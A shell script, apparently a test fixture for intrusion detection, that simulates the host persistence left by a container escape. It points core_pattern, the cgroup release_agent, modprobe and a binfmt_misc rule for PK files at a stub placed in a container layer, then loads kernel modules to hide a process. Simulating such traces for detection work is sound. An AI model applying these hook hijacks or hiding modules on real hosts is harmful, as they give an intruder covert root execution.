# shellcheck shell=sh
# What an intruder who came out of a container plants on the node with a kernel of its own: his program lies in the layer of
# that container, which runs `sleep 40002`. Prints the PID of the process that hides.
set -eu
for pid in $(pidof sleep); do
  [ "$(tr '\0' ' ' <"/proc/$pid/cmdline")" != 'sleep 40002 ' ] || inside=$pid
done
printf '#!/bin/sh\nexit 0\n' >"/proc/$inside/root/tmp/.x"
chmod 0755 "/proc/$inside/root/tmp/.x"
program=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' "/proc/$inside/mountinfo" | head -n 1)/tmp/.x
echo "|$program %P" >/proc/sys/kernel/core_pattern
echo "$program" >/sys/fs/cgroup/memory/release_agent
echo "$program" >/proc/sys/kernel/modprobe
# Files that begin with PK are programs now; with F their interpreter is opened at once.
echo ":docx:M::PK::$program:F" >/proc/sys/fs/binfmt_misc/register
setsid sleep 40001 </dev/null >/dev/null 2>&1 &
until grep -q -x sleep "/proc/$!/comm"; do sleep 0.1; done
insmod /modules/hide.ko "pid=$!"
insmod /modules/gone.ko sysfs=1
echo "$!"
